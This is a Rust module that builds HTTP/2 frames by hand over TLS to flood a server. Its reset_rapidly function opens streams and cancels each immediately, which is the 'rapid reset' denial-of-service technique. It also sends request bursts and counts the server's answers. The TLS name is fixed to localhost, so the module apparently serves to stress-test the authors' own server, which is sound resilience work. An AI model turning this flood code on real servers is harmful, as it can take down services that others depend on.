//! HTTP/2 as a flood speaks it: frames written by hand, over TLS that blocks. What the server answers is only counted.

use std::{
    io::{self, Read as _, Write as _},
    net::{SocketAddr, TcpStream},
    sync::Arc,
    time::Duration,
};

use rustls::{ClientConfig, ClientConnection, StreamOwned, pki_types::ServerName};

use crate::Failure;

/// A connection on which the preface was sent.
pub(crate) struct Http2 {
    stream: StreamOwned<ClientConnection, TcpStream>,
    received: Vec<u8>,
    /// The next stream that is the client's.
    next: u32,
    /// Bytes of bodies that the connection's window has not been given back.
    taken: u32,
}

/// A frame's type (RFC 9113 §6).
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const CANCEL: u32 = 8;
/// Half of the window that every connection begins with.
const GIVE_BACK: u32 = 32 * 1024;

impl Http2 {
    pub(crate) fn connect(address: SocketAddr, tls: &Arc<ClientConfig>) -> Result<Self, Failure> {
        let mut config = ClientConfig::clone(tls);
        config.alpn_protocols = vec![b"h2".to_vec()];
        let name = ServerName::try_from("localhost")?;
        let session = ClientConnection::new(Arc::new(config), name)?;
        let tcp = TcpStream::connect(address)?;
        tcp.set_nodelay(true)?;
        tcp.set_read_timeout(Some(Duration::from_secs(10)))?;
        tcp.set_write_timeout(Some(Duration::from_secs(10)))?;
        let mut connection = Self {
            stream: StreamOwned::new(session, tcp),
            received: Vec::new(),
            next: 1,
            taken: 0,
        };
        let mut hello = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
        frame(SETTINGS, 0, 0, &[], &mut hello);
        connection.stream.write_all(&hello)?;
        match connection.stream.conn.alpn_protocol() {
            Some(b"h2") => Ok(connection),
            _ => Err("the server speaks no HTTP/2".into()),
        }
    }

    /// Opens so many streams and resets each at once.
    ///
    /// # Errors
    /// The server has hung up.
    pub(crate) fn reset_rapidly(&mut self, count: usize, fields: &[u8]) -> io::Result<()> {
        let mut bytes = Vec::new();
        for _ in 0..count {
            frame(HEADERS, END_HEADERS, self.next, fields, &mut bytes);
            let cancel = CANCEL.to_be_bytes();
            frame(RST_STREAM, 0, self.next, &cancel, &mut bytes);
            self.next += 2;
        }
        self.stream.write_all(&bytes)
    }

    /// Sends so many requests without a body.
    pub(crate) fn request(&mut self, count: usize, fields: &[u8]) -> io::Result<()> {
        let mut bytes = Vec::new();
        for _ in 0..count {
            let flags = END_HEADERS | END_STREAM;
            frame(HEADERS, flags, self.next, fields, &mut bytes);
            self.next += 2;
        }
        self.stream.write_all(&bytes)
    }

    /// Reads once. Returns how many streams have ended by it; none at the end of the connection.
    pub(crate) fn answers(&mut self) -> io::Result<Option<usize>> {
        let mut chunk = [0; 16 * 1024];
        let came = self.stream.read(&mut chunk)?;
        if came == 0 {
            return Ok(None);
        }
        self.received
            .extend_from_slice(chunk.get(..came).unwrap_or_default());
        let mut ended = 0;
        while let Some((kind, flags, length)) = self.head() {
            if self.received.len() < 9 + length {
                break;
            }
            self.received.drain(..9 + length);
            match kind {
                GOAWAY => return Ok(None),
                DATA => self.taken += u32::try_from(length).unwrap_or(u32::MAX),
                _ => {}
            }
            if matches!(kind, DATA | HEADERS) && flags & END_STREAM != 0 {
                ended += 1;
            }
        }
        if self.taken >= GIVE_BACK {
            let mut bytes = Vec::new();
            let taken = std::mem::take(&mut self.taken).to_be_bytes();
            frame(WINDOW_UPDATE, 0, 0, &taken, &mut bytes);
            self.stream.write_all(&bytes)?;
        }
        Ok(Some(ended))
    }

    fn head(&self) -> Option<(u8, u8, usize)> {
        match *self.received.get(..9)? {
            [a, b, c, kind, flags, ..] => {
                Some((kind, flags, u32::from_be_bytes([0, a, b, c]) as usize))
            }
            _ => None,
        }
    }
}

/// Fields as literals that are not indexed (RFC 7541 §6.2.2).
pub(crate) fn fields(of: &[(&str, &str)]) -> Vec<u8> {
    let mut block = Vec::new();
    for (name, value) in of {
        block.push(0);
        for text in [name, value] {
            length(text.len(), &mut block);
            block.extend_from_slice(text.as_bytes());
        }
    }
    block
}

/// RFC 7541 §5.1, with a prefix of seven bits.
fn length(value: usize, block: &mut Vec<u8>) {
    let Some(mut rest) = value.checked_sub(127) else {
        return block.push(value as u8);
    };
    block.push(127);
    while rest >= 128 {
        block.push((rest % 128) as u8 | 0x80);
        rest /= 128;
    }
    block.push(rest as u8);
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8], out: &mut Vec<u8>) {
    let [_, a, b, c] = (payload.len() as u32).to_be_bytes();
    out.extend_from_slice(&[a, b, c, kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}
